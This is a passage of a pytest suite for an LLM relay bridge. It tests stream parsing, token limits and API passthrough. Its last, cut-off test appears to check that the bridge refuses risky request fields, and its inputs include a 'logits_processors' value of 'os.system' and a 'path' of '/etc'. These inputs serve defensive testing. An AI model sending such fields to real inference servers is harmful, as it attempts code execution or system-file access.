            api = client_of(relay, name)
            assert api.request("hi") == "Hello"
        stop_keeping_alive(bridge)
        waiting = in_thread(ask, relay, "/" + name, {"message": "x"}, Idempotency_Key="i")
        service = relay.broker.find(name)
        until(lambda: not service.sessions)
        with serving(fake, port):
            assert waiting()[1]["reply"] == "Hello"


def test_a_relay_is_not_taken_for_an_llm(relay):
    with pytest.raises(neuroengine.Unavailable):
        neuroengine.Upstream("http://127.0.0.1:9").find()
    with pytest.raises(neuroengine.Unavailable, match="a relay, not an LLM"):
        neuroengine.Upstream(relay.url).find()


def test_an_operator_may_bound_every_answer():
    bounded = rendering(most_tokens=50)
    for request in ({"message": "x"}, {"message": "x", "max_new_len": 100},
                    {"api": "chat", "messages": [], "max_completion_tokens": 99}):
        assert bounded.question(request).body["max_tokens"] == 50
    assert bounded.question({"message": "x", "max_new_len": 7}).body["max_tokens"] == 7


def test_a_malformed_request_below_v1_is_answered_in_openais_form(relay):
    answer = raw(relay, b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\n\r\n")
    assert b" 411 " in answer[:20] and b'{"error":{"message"' in answer
    assert b"Access-Control-Allow-Origin: *" in answer


def test_a_started_answer_goes_on_through_the_upstreams_prefill():
    so_far = {"reply_so_far": "Once upon"}

    def body(kind="llama.cpp", **request):
        return rendering(kind).question(dict(so_far, **request)).body
    assert body(message="a", raw="True")["prompt"] == "aOnce upon"
    assert body(message="a")["messages"][-1] == {"role": "assistant", "content": "Once upon"}
    assert body(messages=[
        {"role": "user", "content": "a"}, {"role": "assistant", "content": "Well. "}])[
            "messages"][1:] == [{"role": "assistant", "content": "Well. Once upon"}]
    assert body("vLLM", message="a")["continue_final_message"] is True


@pytest.mark.parametrize("owner, template, continues", [
    ("llamacpp", "<user>a<assistant>%s", True), ("llamacpp", "<assistant>%s<end>", False),
    ("llamacpp", None, False), ("library", "<assistant>%s", False),
    ("vllm", None, True), ("", "<assistant>%s", False)])
def test_the_bridge_continues_answers_only_where_the_upstream_does(
        owner, template, continues):
    fake = type("Fake", (FakeLLM,), {"owner": owner, "template": template})
    with serving(fake) as url:
        upstream = neuroengine.Upstream(url)
        upstream.find()
        assert upstream.model().continues is continues


def test_a_continued_answer_has_the_tokens_that_are_left(relay):
    first, asked = Hand(relay), []
    answer = in_thread(ask, relay, "/" + first.name, {
        "message": "x", "max_new_len": 10, "stream": True})
    first.reply(first.next_job(), ["a", "b", "c"])
    until(lambda: [j.seen for j in relay.broker._jobs.values()
                   if j.service.name == first.name] == [3])
    provider = NeuroengineServer(relay.url)
    assert provider.login(first.name, first.key) == 0
    thread = threading.Thread(target=provider.listen, daemon=True, args=(
        lambda request: asked.append(request) or "d",), kwargs={"continues": True})
    thread.start()
    until(lambda: len(relay.broker.find(first.name).sessions) > 1)
    until(lambda: any(session.features.continues for session in
                      relay.broker.find(first.name).sessions.values()))
    first.logout()
    assert b'"d"' in answer()[1]
    assert (asked[0]["reply_so_far"], asked[0]["max_new_len"]) == ("abc", 7)
    provider.stop()
    thread.join(SOON)


# What servers send. Each mutation takes the events of a good stream of "Hel", "lo \u2603",
# "!" and changes their bytes as some server, or a proxy before it, was seen to.

GOOD = [{"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]}] + [
    {"id": "c", "model": "/secret/model.gguf", "choices": [
        {"index": 0, "delta": {"content": text}, "finish_reason": None}]}
    for text in ("Hel", "lo \u2603", "!")] + [
    {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]},
    {"choices": [], "usage": {"prompt_tokens": 3, "completion_tokens": 3}}]


def sse(events, begin="data: ", end="\n\n", last="data: [DONE]\n\n"):
    return ("".join(begin + json.dumps(event, ensure_ascii=False) + end for event in events)
            + last).encode()


def changed(number, **more):
    """The good events, of which one's choice has something else."""
    events = json.loads(json.dumps(GOOD))
    events[number]["choices"][0].update(more)
    return events


def each(change):
    """The good events, each changed."""
    events = json.loads(json.dumps(GOOD))
    for event in events:
        for choice in event["choices"]:
            change(choice)
    return events


def message_for_delta(choice):
    choice["message"] = choice.pop("delta")


def text_for_delta(choice):
    choice["text"] = choice.pop("delta").get("content", "")


WHOLE = {"choices": [{"index": 0, "finish_reason": "stop", "message": {
    "role": "assistant", "content": "Hello \u2603!"}}], "usage": {"prompt_tokens": 3}}
STREAMS = {  # the answer is right
    "as it should be": sse(GOOD),
    "no space after data:": sse(GOOD, "data:"),
    "CRLF": sse(GOOD, end="\r\n\r\n"),
    "CR": sse(GOOD, end="\r\r", last="data: [DONE]\r\r"),
    "one line end between events": sse(GOOD, end="\n"),
    "comments": sse(GOOD, ": ping\n\ndata: "),
    "ids, names and retry": sse(GOOD, "id: 7\nevent: message\nretry: 3\ndata: "),
    "an empty data line": sse(GOOD, "data:\n\ndata: "),
    "data: null": sse([None] + GOOD),
    "an event without data": sse(GOOD, "event: ping\n\ndata: "),
    "a byte order mark": b"\xef\xbb\xbf" + sse(GOOD),
    "blank lines first": b"\n\n\n" + sse(GOOD),
    "data: twice": sse(GOOD, "data: data: "),
    "JSON in several lines": sse(GOOD).replace(b', "', b'\ndata: , "'),
    "no [DONE]": sse(GOOD, last=""),
    "no blank line at the end": sse(GOOD, last="data: [DONE]"),
    "cut after the last event": sse(GOOD[:-1], last=""),
    "[DONE] and no finish_reason": sse(GOOD[:4]),
    "finish_reason with the last text": sse(changed(3, finish_reason="stop")[:4]),
    'finish_reason: ""': sse(each(lambda choice: choice.get("finish_reason") is None
                                  and choice.update(finish_reason=""))),
    "finish_reason in each event": sse(each(lambda c: c.update(finish_reason="stop"))),
    "finish_reason as an object": sse(each(lambda c: c.get("finish_reason") and c.update(
        finish_reason={"type": "stop"}))),
    "text after the finish_reason": sse([GOOD[0], GOOD[4]] + GOOD[1:4]),
    "events after [DONE]": sse(GOOD) + b": bye\n\n",
    "message for delta": sse(each(message_for_delta)),
    "text for delta": sse(each(text_for_delta)),
    "the whole text again at the end": sse(GOOD[:4] + changed(4, message={
        "role": "assistant", "content": "Hello \u2603!"}, delta=None)[4:]),
    "the text so far in each event": sse([dict(event, choices=[dict(
        choice, message={"content": so_far}) for choice in event["choices"]])
        for event, so_far in zip(GOOD, ("", "Hel", "Hello \u2603", "Hello \u2603!",
                                        "Hello \u2603!", ""))]),
    "no index": sse(each(lambda choice: choice.pop("index"))),
    "content: null": sse(changed(0, delta={"role": "assistant", "content": None})),
    "delta: null": sse(changed(0, delta=None)),
    "tool_calls: [null]": sse(each(lambda c: c["delta"].update(tool_calls=[None]))),
    "tool_calls: null": sse(each(lambda c: c["delta"].update(tool_calls=None))),
    "choices: null": sse(GOOD[:2] + [{"choices": None}, {"id": "x"}] + GOOD[2:]),
    "another choice": sse(GOOD[:2] + changed(1, index=1)[1:2] + GOOD[2:]),
    "content in parts": sse(each(lambda c: c["delta"].get("content") and c["delta"].update(
        content=[{"type": "text", "text": c["delta"]["content"]}]))),
    "usage: null": sse([dict(event, usage=event.get("usage")) for event in GOOD]),
    "error: null": sse([dict(event, error=None) for event in GOOD]),
    "one JSON object": json.dumps(WHOLE).encode(),
    "one JSON object with a byte order mark": b"\xef\xbb\xbf" + json.dumps(WHOLE).encode(),
    "one JSON object in lines": json.dumps(WHOLE, indent=1).encode() + b"\n",
    "one JSON object as an event": sse([WHOLE]),
    "one JSON object in each line": sse(GOOD, "", "\n", ""),
    "a character escaped in halves": sse(GOOD).replace("\u2603".encode(), b"\\ud83d").replace(
        b'"!"', b'"\\ude00!"'),
    "a character cut in two": sse(GOOD).replace("\u2603".encode(), b"\xe2\x98").replace(
        b'"!"', b'"\x83!"'),
}
BROKEN_STREAMS = {  # an error follows the text, and its words say this
    "nothing": (b"", "ended in the middle"),
    "[DONE] alone": (b"data: [DONE]\n\n", "ended in the middle"),
    "cut": (sse(GOOD[:3], last=""), "ended in the middle"),
    "cut within JSON": (sse(GOOD[:3], last="data: {\"choi"), "not JSON"),
    "an empty chunk, and the end": (sse(GOOD[:3] + [{"choices": [{"delta": {}}]}], last=""),
                                    "ended in the middle"),
    "error event": (sse(GOOD[:3] + [{"error": {"message": "no memory"}}]), "no memory"),
    "error as a text": (sse(GOOD[:3] + [{"error": "no memory"}]), "no memory"),
    "error, flat": (sse(GOOD[:3] + [{"object": "error", "message": "no memory",
                                     "code": 500}]), "no memory"),
    "error by name": (sse(GOOD[:3]) + b'event: error\ndata: {"message": "no memory"}\n\n',
                      "no memory"),
    "error line": (sse(GOOD[:3], last='error: {"message": "no memory"}\n\n'), "no memory"),
    "error for a stream": (b'{"error": {"message": "no memory"}}', "no memory"),
    "LM Studio's unknown path": (b'{"error": "Unexpected endpoint or method."}', "Unexpected"),
    "HTML": (b"<html><body>Bad gateway</body></html>", "not JSON"),
    "words": (b"no memory", "ended in the middle"),
    "an array": (b"[1, 2]", "not JSON"), "a number": (b"data: 5\n\n", "not JSON"),
    "single quotes": (b"data: {'choices': []}\n\n", "not JSON"),
    "NaN": (b'data: {"choices": [], "x": NaN}\n\n', "not JSON"),
    "choices as a text": (b'data: {"choices": "x"}\n\n', "not JSON"),
    "delta as a text": (sse(changed(1, delta="Hel")), "not JSON"),
    "content as a number": (sse(changed(1, delta={"content": 5})), "not JSON"),
    "an empty whole answer": (b'{"choices": []}', "ended in the middle"),
}


def pieces_of(data, how):
    """The bytes as they may come: at once, one by one, or cut at random."""
    if how == "whole":
        return [data]
    if how == "bytes":
        return [data[at:at + 1] for at in range(len(data))]
    cuts = sorted(random.Random(how).sample(range(len(data) + 1), min(20, len(data))))
    return [data[begin:end] for begin, end in zip([0] + cuts, cuts + [len(data)])]


def parsed(parser, data, how):
    items = []
    for piece in pieces_of(data, how):
        items += parser.feed(piece)
    return items + parser.finish()


def text_of(items):
    return "".join(item for item in items if isinstance(item, str))


HOWS = ["whole", "bytes", 1, 2, 3]


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("name", STREAMS)
def test_whatever_servers_send_the_text_is_right(name, how):
    items = parsed(neuroengine.Completion(neuroengine.Model("m")), STREAMS[name], how)
    assert text_of(items).replace("\U0001f600", "\u2603") == "Hello \u2603!"
    assert items[-1]["finish_reason"] == "stop"


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("name", BROKEN_STREAMS)
def test_what_is_no_answer_is_an_error_in_words(name, how):
    data, words = BROKEN_STREAMS[name]
    with pytest.raises(NeuroengineError, match=words):
        parsed(neuroengine.Completion(neuroengine.Model("m")), data, how)


def test_a_stream_broken_anywhere_is_right_or_an_error():
    """Never less text with an end that looks good, and never other text."""
    data, chance, wrong = sse(GOOD), random.Random(1), []
    for number in range(3000):
        at, kind = chance.randrange(len(data)), chance.randrange(4)
        broken = (data[:at] if kind == 0 else data[:at] + data[at + chance.randrange(9):]
                  if kind == 1 else data[:at] + bytes([chance.randrange(128)]) + data[at:]
                  if kind == 2 else data[:at] + b"\n" + data[at:])
        try:
            items = parsed(neuroengine.Completion(neuroengine.Model("m")), broken, "whole")
        except NeuroengineError:
            continue
        kept = text_of(items)
        # A byte changed within a text is what the server says. One lost event is not seen by
        # anyone; so only cuts must never pass.
        if kind == 0 and kept != "Hello \u2603!":
            wrong.append(broken)
    assert not wrong


def outcomes(stream):
    """What comes of a stream, however it is cut: the items, or the words of the error."""
    found = []
    for how in HOWS:
        try:
            found.append(parsed(neuroengine.Completion(neuroengine.Model("m")), stream, how))
        except NeuroengineError as error:
            found.append(str(error))
    return found


@pytest.mark.parametrize("name", STREAMS)
def test_repeated_events_are_read_as_if_there_was_no_short_cut(name, monkeypatch):
    stream = b"".join(event * 4 for event in re.split(rb"(?<=\n\n)", STREAMS[name]))
    quick = outcomes(stream)
    monkeypatch.setattr(neuroengine.Alike, "take", lambda _, lines: ([], lines))
    assert quick == outcomes(stream)


def test_any_text_between_the_same_bytes_is_read_as_if_there_was_no_short_cut(monkeypatch):
    """Also texts that stand elsewhere in the event, and those that need escapes."""
    texts = ["c", "c", "c", "choices", "delta", "content", "id", "Hel", "?", "Hel?", "", " ",
             "[DONE]", "\u2603", "\U0001f600", 'a"b', "\\", "\n", "\r", "\x7f", "\u2028", "data: "]
    chance = random.Random(1)
    for _ in range(20):
        chosen = [text for text in chance.choices(texts, k=30)
                  for _ in range(chance.choice((1, 3)))]
        chosen = [(text, chance.choice((0, 0, 0, 1))) for text in chosen]
        stream = sse([{"id": chance.choice("ccccx"), "detail": "x", "created": len(text),
                       "choices": [{"delta": {"content": text}, "index": index}]}
                      for text, index in chosen] + GOOD[4:])
        with monkeypatch.context() as patched:
            quick = outcomes(stream)
            patched.setattr(neuroengine.Alike, "take", lambda _, lines: ([], lines))
            assert quick == outcomes(stream)
        assert text_of(quick[0]) == "".join(text for text, index in chosen if not index)


@pytest.fixture
def parsed_events(monkeypatch):
    """The JSON texts of all events that are parsed."""
    seen, parse = [], neuroengine.from_json

    def from_json(text):
        if text.startswith("{"):
            seen.append(text)
        return parse(text)
    monkeypatch.setattr(neuroengine, "from_json", from_json)
    return seen


def test_events_that_differ_in_their_text_alone_are_parsed_three_times_at_most(parsed_events):
    words = ["Hel", "lo\n", '"\u2603"\t', "\\'"]
    events = [GOOD[0]] + [{"choices": [{"delta": {"content": word}}]} for word in words * 25]
    parser = neuroengine.Completion(neuroengine.Model("m"))
    pieces = [json.dumps(event, ensure_ascii=False) for event in events + GOOD[4:]]
    items = [item for piece in pieces
             for item in parser.feed(("data: %s\n\n" % piece).encode())]
    assert text_of(items) == "".join(words * 25)
    assert len(parsed_events) == 3 + len(GOOD[4:]) + 1     # and the events that differ


def test_events_that_come_at_once_are_parsed_until_two_were_alike(parsed_events):
    parser = neuroengine.Completion(neuroengine.Model("m"))
    assert text_of(parser.feed(sse(GOOD[:1] + GOOD[1:2] * 100 + GOOD[4:]))) == "Hel" * 100
    assert len(parsed_events) == 4 + len(GOOD[4:])


def test_a_number_that_changes_in_all_events_costs_one_to_be_parsed(parsed_events):
    events = [dict(GOOD[1], created=1000 + n // 10) for n in range(100)]
    parser = neuroengine.Completion(neuroengine.Model("m"))
    for event in events:
        assert parser.feed(sse([event], last="")) == ["Hel"]
    assert len(parsed_events) == 3 + 9


def test_bytes_that_are_no_text_become_the_sign_for_that():
    data = sse(GOOD).replace(b'"!"', b'"\xff!"')
    items = parsed(neuroengine.Completion(neuroengine.Model("m")), data, "whole")
    assert text_of(items) == "Hello \u2603\ufffd!"


def test_lines_are_the_same_however_their_bytes_come():
    chance, data = random.Random(7), b"\xef\xbb\xbfab\r\n\rcd\n\nlong line\rx\n\r\nend"
    for number in range(500):
        lines, got, at = neuroengine.Lines(), b"", 0
        while at < len(data):
            end = at + chance.randrange(1, 5)
            got, at = got + lines.feed(data[at:end]), end
        assert got + lines.end() == b"ab\n\ncd\n\nlong line\nx\n\nend\n"


def test_tool_calls_without_an_index_stay_apart():
    calls = [[{"id": "a"}], [{"id": "b", "index": None}, {"id": "c"}], [{"id": "a"}]]
    events = [{"choices": [{"delta": {"tool_calls": some}}]} for some in calls]
    items = parsed(neuroengine.Completion(neuroengine.Model("m")), sse(events + GOOD), "whole")
    assert [(call["id"], call["index"]) for item in items if "tool_calls" in item
            for call in item["tool_calls"]] == [("a", 0), ("b", 1), ("c", 2), ("a", 0)]


def test_a_piece_of_a_tool_call_without_index_and_id_goes_on_with_the_last_call():
    calls = [{"id": "a"}, {"function": {"arguments": "1"}}, {"id": "b"},
             {"function": {"arguments": "2"}}]
    events = [{"choices": [{"delta": {"tool_calls": [call]}}]} for call in calls]
    items = parsed(neuroengine.Completion(neuroengine.Model("m")), sse(events + GOOD), "whole")
    assert [item["tool_calls"][0]["index"] for item in items
            if "tool_calls" in item] == [0, 0, 1, 1]


@pytest.mark.parametrize("how", HOWS)
def test_thoughts_that_are_cut_within_a_character_are_joined(how):
    thoughts = sent_as_events([("", {"choices": [{"delta": {"reasoning": piece}}]})
                               for piece in ("a\ud83d", "\ude00b", "\ud83d")])
    items = parsed(neuroengine.Completion(neuroengine.Model("m")), thoughts + sse(GOOD), how)
    assert "".join(item["reasoning"] for item in items
                   if "reasoning" in item) == "a\U0001f600b\ufffd"
    assert text_of(items) == "Hello \u2603!"


@pytest.mark.parametrize("half", ["\ud83d", "\ude00"])
@pytest.mark.parametrize("text", ["%s", "a%sb", "a%s", "%sb", "%s%s"])
def test_half_a_character_anywhere_in_a_text_fails_no_answer(text, half):
    text = text.replace("%s", half)
    events = sent_as_events([("", {"choices": [{"delta": {"content": text}}]})] * 3)
    items = parsed(neuroengine.Completion(neuroengine.Model("m")), events + sse(GOOD), "whole")
    shown = text_of(items).encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    assert shown == (text * 3).replace(half, "\ufffd") + "Hello \u2603!"
    assert "" not in items


@pytest.mark.parametrize("field", ["content", "reasoning"])
def test_bytes_that_are_no_text_beside_half_a_character_fail_no_answer(field):
    data = b'data: {"choices": [{"delta": {"%s": "x\xff\\ud83d"}}]}\n\n' % field.encode()
    items = parsed(neuroengine.Completion(neuroengine.Model("m")), data + sse(GOOD), "whole")
    assert items[0] in ("x\ufffd\ufffd", {"reasoning": "x\ufffd\ufffd"})


@pytest.mark.parametrize("stream", [False, True])
def test_what_is_passed_through_keeps_half_a_character_as_an_escape(stream):
    event = {"delta": "\ud83d", "choices": [{"finish_reason": "stop"}]}
    data = sent_as_events([("", event)]) if stream else json.dumps(event).encode()
    text = "".join(passed(opaque("chat", {}, stream), data)[0].values())
    assert "\\ud83d" in text and text.isascii()


@pytest.mark.parametrize("stream", [False, True])
def test_a_number_that_json_cannot_hold_is_an_error_that_says_so(stream):
    data = b'{"choices": [{"index": 0, "logprob": -1e400, "finish_reason": "stop"}]}'
    with pytest.raises(NeuroengineError, match="a number that is too large"):
        passed(opaque("chat", {}, stream), b"data: %s\n\n" % data if stream else data)


@pytest.mark.parametrize("piece", [b"data: 1\n", b": ping\n\n", b"[\n"])
@pytest.mark.parametrize("stream", [False, True])
def test_an_answer_without_end_and_without_items_ends_in_an_error(piece, stream, monkeypatch):
    monkeypatch.setattr(neuroengine, "MAX_LINE_BYTES", 1000)
    question, model = opaque("messages", {}, stream), neuroengine.Model("m")
    for parser in (question.parser(model), neuroengine.Completion(model)):
        with pytest.raises(NeuroengineError):
            for _ in range(1000):
                assert not parser.feed(piece)


@pytest.mark.parametrize("api", ["messages", "responses"])
def test_done_is_no_end_of_an_api_that_has_another(api):
    pairs = {"messages": ANTHROPIC, "responses": RESPONSES}[api]
    with pytest.raises(NeuroengineError, match="ended in the middle"):
        passed(opaque(api, {}, stream=True), sent_as_events(pairs[:-1], b"data: [DONE]\n\n"))
    assert passed(opaque(api, {}, stream=True), sent_as_events(pairs, b"data: [DONE]\n\n"))


def test_whatever_else_is_in_a_delta_or_message_is_passed_on():
    more = {"refusal": "no", "annotations": [{"type": "url_citation"}], "audio": {"id": "a"}}
    for data in (sse(changed(4, delta=dict(more, reasoning="hm"))), json.dumps({"choices": [
            {"message": dict(more, content="x", reasoning="hm"),
             "finish_reason": "stop"}]}).encode()):
        items = parsed(neuroengine.Completion(neuroengine.Model("m")), data, "whole")
        assert {"reasoning": "hm"} in items and {"delta": more} in items


def test_what_is_alone_in_a_delta_is_passed_on():
    items = parsed(neuroengine.Completion(neuroengine.Model("m")),
                   sse(changed(1, delta={"refusal": "no"})), "whole")
    assert {"delta": {"refusal": "no"}} in items


# What goes through as it is.


def opaque(api, body, stream=False, kind="", model=None, **options):
    request = {"api": api, "opaque": True, "stream": stream, "headers": {
        "anthropic-beta": "b", "cookie": "c"}, "body": dict(body, model="Ann")}
    return rendering(kind, model or neuroengine.Model("/secret/model.gguf", "Ann"),
                     **options).question(request)


def passed(question, data, how="whole"):
    model = neuroengine.Model("/secret/model.gguf", "Ann")
    return parsed(question.parser(model), data, how)


def test_an_opaque_request_goes_to_its_path_with_the_models_id_and_nothing_else_changed():
    body = {"input": "x", "tools": [{"type": "function"}], "odd": {"field": [1]},
            "store": False}
    question = opaque("responses", body)
    assert question.path == "/v1/responses"
    assert question.body == dict(body, model="/secret/model.gguf")
    assert question.headers == [("anthropic-beta", "b")]
    for api, path in neuroengine.PATHS.items():
        assert opaque(api, {}).path == path


def test_an_opaque_answer_is_one_json_text_under_the_services_name():
    answer = {"id": "r", "model": "/secret/model.gguf", "n": [1, 2.5, None], "timings": {},
              "system_fingerprint": "b1", "usage": {"input_tokens": 4, "output_tokens": 2}}
    result, usage = passed(opaque("messages", {}), json.dumps(answer).encode())
    assert json.loads(result["result"]) == {"id": "r", "model": "Ann", "n": [1, 2.5, None],
                                            "usage": answer["usage"]}
    assert usage == {"usage": {"prompt_tokens": 4, "completion_tokens": 2}}
    for data, words in ((b"<html>", "not JSON"), (b'{"error": "no memory"}', "no memory"),
                        (b'{"x": NaN}', "not JSON")):
        with pytest.raises(NeuroengineError, match=words):
            passed(opaque("rerank", {}), data)


ANTHROPIC = [("message_start", {"message": {"model": "/secret/model.gguf", "usage": {
    "input_tokens": 7, "output_tokens": 1}}}), ("ping", {}),
    ("content_block_delta", {"delta": {"text": "Hi \u2603"}}),
    ("message_delta", {"usage": {"output_tokens": 5}}), ("message_stop", {})]
RESPONSES = [("response.created", {"response": {"model": "/secret/model.gguf"}}),
             ("response.output_text.delta", {"delta": "Hi"}),
             ("response.completed", {"response": {"model": "/secret/model.gguf", "usage": {
                 "input_tokens": 7, "output_tokens": 5}, "error": None}})]
CHOICES = [("", {"model": "/secret/model.gguf", "choices": [
    {"index": n, "text": "x", "logprobs": {"a": [1]}, "finish_reason": end}]})
    for n, end in ((0, None), (0, "stop"), (1, None), (1, "length"))] + [
        ("", {"choices": [], "usage": {"prompt_tokens": 7, "completion_tokens": 5}})]


def sent_as_events(pairs, last=b""):
    return b"".join(b": comment\nid: 3\n%sdata: %s\n\n" % (
        b"event: %s\n" % kind.encode() if kind else b"",
        json.dumps(dict({"type": kind} if kind else {}, **data)).encode())
        for kind, data in pairs) + last


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("api, pairs, body", [
    ("messages", ANTHROPIC, {}), ("responses", RESPONSES, {}),
    ("completions", CHOICES, {"n": 2}), ("chat", CHOICES, {"n": 2}),
    ("completions", CHOICES, {"prompt": ["a", "b"]})])
def test_an_opaque_stream_is_passed_event_by_event_to_its_own_end(api, pairs, body, how):
    question = opaque(api, body, stream=True)
    *events, usage = passed(question, b"data: null\n\n" + sent_as_events(pairs), how)
    kept = [item["event"] for item in events]
    chat = api in ("chat", "completions")
    assert len(kept) == len(pairs) and "secret" not in "".join(kept)
    assert usage == {"usage": {"prompt_tokens": 7, "completion_tokens": 5}}
    assert (kept[-1] == "data: [DONE]") is chat        # the usage was nobody's wish
    for (kind, _), event in zip(pairs, kept[:-1]):
        assert event.startswith("event: %s\ndata: {" % kind if kind else "data: {")
        assert "\n\n" not in event
    for cut in (2, 3):                         # without the API's own last event
        with pytest.raises(NeuroengineError, match="ended in the middle"):
            passed(question, sent_as_events(pairs[:cut - (api == "responses")]), how)


LONG_PREFILL = {           # as llama.cpp reports its progress: by what opens the stream
    "chat": [("", {"prompt_progress": {"processed": n}, "choices": [
        {"index": 0, "delta": {"role": "assistant"}, "finish_reason": None}]})
        for n in range(3)] + CHOICES[:2],
    "responses": RESPONSES[:1] + [("response.in_progress", {"prompt_progress": {
        "processed": n}}) for n in range(3)] + RESPONSES[1:],
    "messages": ANTHROPIC}


@pytest.mark.parametrize("api, count", [("chat", 3), ("responses", 4), ("messages", 5)])
def test_the_progress_that_the_bridge_has_llama_cpp_report_stays_with_it(api, count):
    question = opaque(api, {}, stream=True, kind="llama.cpp")
    assert question.body["return_progress"] is True
    *events, _ = passed(question, sent_as_events(LONG_PREFILL[api], b"data: [DONE]\n\n"
                                                 * (api == "chat"))) + [None]
    texts = [item["event"] for item in events if "event" in item]
    assert len(texts) == count and "prompt_progress" not in "".join(texts)
    question = opaque(api, {"return_progress": True}, stream=True, kind="llama.cpp")
    events = passed(question, sent_as_events(LONG_PREFILL[api], b"data: [DONE]\n\n"))
    assert sum("prompt_progress" in item.get("event", "") for item in events) == sum(
        "prompt_progress" in data for _, data in LONG_PREFILL[api])    # its own wish
    for kind in ("", "vLLM"):
        assert "return_progress" not in opaque(api, {}, stream=True, kind=kind).body


def test_what_opens_a_stream_goes_with_its_first_answer_so_that_another_provider_can_answer():
    question = opaque("messages", {}, stream=True)
    parser = question.parser(neuroengine.Model("m"))
    assert parser.feed(sent_as_events(ANTHROPIC[:1])) == []
    assert len(parser.feed(sent_as_events(ANTHROPIC[1:2]))) == 2


@pytest.mark.parametrize("api, data", [
    ("messages", b'event: error\ndata: {"type": "error", "error": {"type": '
     b'"overloaded_error", "message": "busy"}}\n\n'),
    ("chat", b'data: {"error": {"message": "busy"}}\n\n'), ("chat", b'{"error": "busy"}'),
    ("responses", b'event: error\ndata: {"type": "error", "message": "busy"}\n\n')])
def test_an_error_within_an_opaque_stream_is_an_error(api, data):
    with pytest.raises(NeuroengineError, match="busy"):
        passed(opaque(api, {}, stream=True), data)


def test_usage_that_the_client_asked_for_reaches_it():
    question = opaque("chat", {"stream_options": {"include_usage": True}}, stream=True)
    events = passed(question, sent_as_events(CHOICES[:2] + CHOICES[4:], b"data: [DONE]\n\n"))
    assert '"usage"' in events[-3]["event"] and events[-2]["event"] == "data: [DONE]"


def test_whatever_types_a_body_has_it_is_passed_or_refused():
    chance = random.Random(5)
    fields = ("stream_options", "tools", "n", "prompt", "messages", "input", "response_format",
              "store", "max_tokens", "options", "system", "stream", "documents", "usage")

    def value(depth=0):
        kind = chance.randrange(9 if depth < 3 else 6)
        return ([value(depth + 1)] * chance.randrange(3) if kind > 6 else
                {chance.choice(fields + ("url", "image_url", "source", "type")):
                 value(depth + 1)} if kind == 6 else
                (None, True, 0, -1.5, "text", "")[kind])
    for number in range(3000):
        body = {chance.choice(fields): value() for _ in range(3)}
        api = chance.choice(list(neuroengine.PATHS))
        try:
            question = opaque(api, body, stream=chance.random() < 0.5, kind="llama.cpp",
                              most_tokens=chance.choice([None, 50]))
            question.data(), question.choices(), question.parser(neuroengine.Model("m"))
            question.relent("max_tokens json_schema", None, True)
        except NeuroengineError:
            pass


def test_whatever_an_upstream_says_is_passed_or_an_error():
    """As json.loads may return anything, no place may take a type for granted."""
    chance, model = random.Random(6), neuroengine.Model("/secret/model.gguf", "Ann")
    texts = [json.dumps(event) for event in GOOD + [WHOLE] + [dict(
        data, type=kind) for kind, data in ANTHROPIC + RESPONSES + CHOICES]]
    odd = ["null", "5", "[]", "[null]", "{}", '"x"', '[{"x": 1}]', '{"message": 5}']
    for number in range(5000):
        text = re.sub(r'(?<=: )("[^"]*"|\d+|null|\{[^{}]*\}|\[[^\[\]]*\])', lambda match:
                      chance.choice(odd) if chance.random() < 0.2 else match.group(),
                      chance.choice(texts))
        data = ("data: %s\n\n" % text if chance.random() < 0.8 else text).encode()
        question = opaque(chance.choice(list(neuroengine.PATHS)), {}, chance.random() < 0.5)
        for parser in (question.parser(model), neuroengine.Completion(model)):
            try:
                parsed(parser, data, "whole")
            except NeuroengineError:
                pass


@pytest.mark.parametrize("api", ["chat", "completions", "responses", "messages"])
@pytest.mark.parametrize("field", neuroengine.LENGTH_FIELDS)
def test_a_limit_holds_under_every_name_and_on_every_path(api, field):
    for value in (1000, -1, "1000", 1e9):
        for request in ({field: value}, {"options": {field: value}}):
            body = opaque(api, request, most_tokens=50).body
            assert dict(body, **body.get("options", {}))[field] == 50
    assert opaque(api, {field: 7}, most_tokens=50).body[field] == 7
    body = opaque(api, {}, most_tokens=50).body
    assert body["max_output_tokens" if api == "responses" else "max_tokens"] == 50
    with pytest.raises(NeuroengineError, match="must be a number"):
        opaque(api, {field: {"a": 1}}, most_tokens=50)


@pytest.mark.parametrize("api", ["chat", "completions", "responses", "messages"])
def test_a_limit_holds_though_the_server_knows_none_of_the_names_that_the_client_used(api):
    usual = "max_output_tokens" if api == "responses" else "max_tokens"
    for field in set(neuroengine.LENGTH_FIELDS) - {usual}:
        for value, limit in ((1000, 50), (-1, 50), (7, 7), ("9", 9), (0, 50)):
            assert opaque(api, {field: value}, most_tokens=50).body[usual] == limit
    assert opaque(api, {usual: 0}, most_tokens=50, kind="Ollama").body[usual] == 50


def test_a_limit_of_the_operator_is_renamed_and_not_left_out_for_a_server_that_refuses_it():
    words = "'max_tokens' is not supported. Use 'max_completion_tokens' instead."
    for asked in ({}, {"max_completion_tokens": 7}):
        question = opaque("chat", asked, most_tokens=50)
        assert question.relent(words, "max_tokens", False)
        assert question.body["max_completion_tokens"] == asked.get("max_completion_tokens", 50)
        assert "max_tokens" not in question.body
    while question.relent("max_tokens and max_completion_tokens are refused", None, False):
        pass
    assert neuroengine.given(question.body, neuroengine.LENGTH_FIELDS)
    question = opaque("responses", {}, most_tokens=50)
    assert not question.relent("max_output_tokens is unknown", None, False)


def test_no_limit_is_added_but_to_servers_that_generate_without_end():
    model = neuroengine.Model("m", context_length=512)
    ended = neuroengine.Model("m", context_length=512, endless=False)
    for kind, which, limit in (("", model, None), ("vLLM", model, None),
                               ("llama.cpp", model, 512), ("llama.cpp", ended, None)):
        assert opaque("chat", {}, kind=kind, model=which).body.get("max_tokens") == limit
        assert rendering(kind, which).question({"api": "chat", "messages": []}).body.get(
            "max_tokens") == limit
    assert "max_tokens" not in opaque("chat", {"n_predict": 9}, kind="llama.cpp").body


IMAGE = [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "%s"}}]}]


@pytest.mark.parametrize("body, field", [
    ({"id_slot": 3}, "id_slot"), ({"lora": [{"id": 0}]}, "lora"),
    ({"chat_template": "{{x}}"}, "chat_template"), ({"path": "/etc"}, "path"),
    ({"logits_processors": ["os.system"]}, "logits_processors"),
    ({"n": 1, "n_cmpl": 8}, "n_cmpl"),
